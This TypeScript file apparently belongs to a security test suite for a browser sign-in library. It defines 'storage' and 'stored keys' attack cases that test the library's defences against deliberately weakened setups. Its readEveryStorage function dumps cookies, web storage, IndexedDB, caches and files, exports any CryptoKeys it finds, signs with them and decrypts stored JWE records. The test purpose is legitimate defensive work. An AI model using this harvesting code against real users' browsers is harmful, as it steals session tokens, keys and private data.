import type { Attack } from '../attack.js';
import { SIGNED_TEXT } from '../outside/loot.js';
import type { Stage } from '../outside/stage.js';
import { weakWorker } from '../weak/weak-workers.js';

/** Chromium's Storage Buckets API, as far as it is used. */
interface Buckets {
  keys(): Promise<string[]>;
  open(name: string): Promise<{ readonly indexedDB: IDBFactory }>;
}

/** Reads every storage, and tries each key that it finds on each record, and on a text of its own. */
export async function readEveryStorage(signedText: string): Promise<void> {
  const records: unknown[] = [];
  const keys: CryptoKey[] = [];
  const wait = <T>(request: IDBRequest<T>) =>
    new Promise<T>((resolve, reject) => {
      request.onsuccess = () => resolve(request.result);
      request.onerror = () => reject(request.error);
    });
  const findKeys = (value: unknown): void => {
    if (value instanceof CryptoKey) keys.push(value);
    else if (typeof value === 'object' && value !== null)
      for (const part of Object.values(value)) findKeys(part);
  };
  attacker.take('web storage', [document.cookie, { ...localStorage }, { ...sessionStorage }]);
  const { storageBuckets } = navigator as { storageBuckets?: Buckets };
  const factories = [indexedDB];
  for (const name of (await storageBuckets?.keys()) ?? [])
    factories.push((await storageBuckets?.open(name))?.indexedDB ?? indexedDB);
  const found = factories.map(async (factory) =>
    (await factory.databases()).map(({ name = '' }) => [factory, name] as const),
  );
  for (const [factory, name] of (await Promise.all(found)).flat()) {
    const database = await wait(factory.open(name));
    for (const store of database.objectStoreNames) {
      const objects = database.transaction(store).objectStore(store);
      records.push(...(await wait(objects.getAll())), ...(await wait(objects.getAllKeys())));
    }
    database.close();
  }
  attacker.take('IndexedDB', records);
  findKeys(records);
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    for (const request of await cache.keys()) {
      const response = await cache.match(request);
      attacker.take('Cache', [request.url, (await response?.text()) ?? '']);
    }
  }
  const cookies = await (
    globalThis as { cookieStore?: { getAll(): Promise<unknown> } }
  ).cookieStore?.getAll();
  attacker.take('cookies', cookies);
  const root = await navigator.storage?.getDirectory?.().catch(() => undefined);
  if (root && 'keys' in root) {
    for await (const name of root.keys() as AsyncIterable<string>) attacker.take('file system', name);
  }

  const decode = (text: string) =>
    Uint8Array.from(atob(text.replaceAll('-', '+').replaceAll('_', '/')), (letter) => letter.charCodeAt(0));
  const jwes = records.map((record) => (record as { jwe?: string }).jwe).filter((jwe) => jwe !== undefined);
  for (const key of keys) {
    attacker.take('exported key', await crypto.subtle.exportKey('raw', key).catch(() => undefined));
    const text = new TextEncoder().encode(signedText);
    const signature = await crypto.subtle
      .sign({ name: 'ECDSA', hash: 'SHA-256' }, key, text)
      .catch(() => undefined);
    if (signature) attacker.take('signature', signature);
    for (const jwe of jwes) {
      const [header = '', , iv = '', ciphertext = '', tag = ''] = jwe.split('.');
      const sealed = new Uint8Array([...decode(ciphertext), ...decode(tag)]);
      const additionalData = new TextEncoder().encode(header);
      const opened = await crypto.subtle
        .decrypt({ name: 'AES-GCM', iv: decode(iv), additionalData }, key, sealed)
        .catch(() => undefined);
      if (opened) attacker.take('a record that a found key opened', new TextDecoder().decode(opened));
    }
  }
}

async function run(stage: Stage): Promise<void> {
  const session = "globalThis[Symbol.for('session-keeper.session')]";
  await stage.run(readEveryStorage, SIGNED_TEXT);
  await stage.tab.evaluate(
    `${session}.renew().then(() => fetch('${stage.system.api.origin}/v1/time')).then(() => 0)`,
  );
  // A sign-in under way: its record holds the verifier.
  await stage.tab.evaluate(`void ${session}.signIn({ mode: 'popup' }).catch(() => 0)`);
  await stage.pause(500);
  await stage.run(readEveryStorage, SIGNED_TEXT);
}

const DPOP = { refreshTokens: 'dpop', workerOptions: { dpop: 'required' } } as const;

export const storage: Attack = {
  name: 'storage',
  tries: 'reads IndexedDB, caches, web storage, cookies and files, during a session and a sign-in',
  threat: '5.1.1',
  defence: 'records are JWEs; their key is in no storage',
  weakness: { without: 'the seal', deployment: { system: weakWorker('clear-vault') } },
  run,
};

export const storedKeys: Attack = {
  name: 'stored keys',
  tries: 'uses each CryptoKey that it finds on each record, and signs with it',
  threat: '5.1.2',
  defence: 'no key rests as a usable handle; the DPoP key is inside a sealed record',
  deployment: { system: DPOP },
  weakness: {
    without: 'the rule that no key is stored',
    deployment: { system: { ...DPOP, ...weakWorker('usable-keys') } },
  },
  run,
};
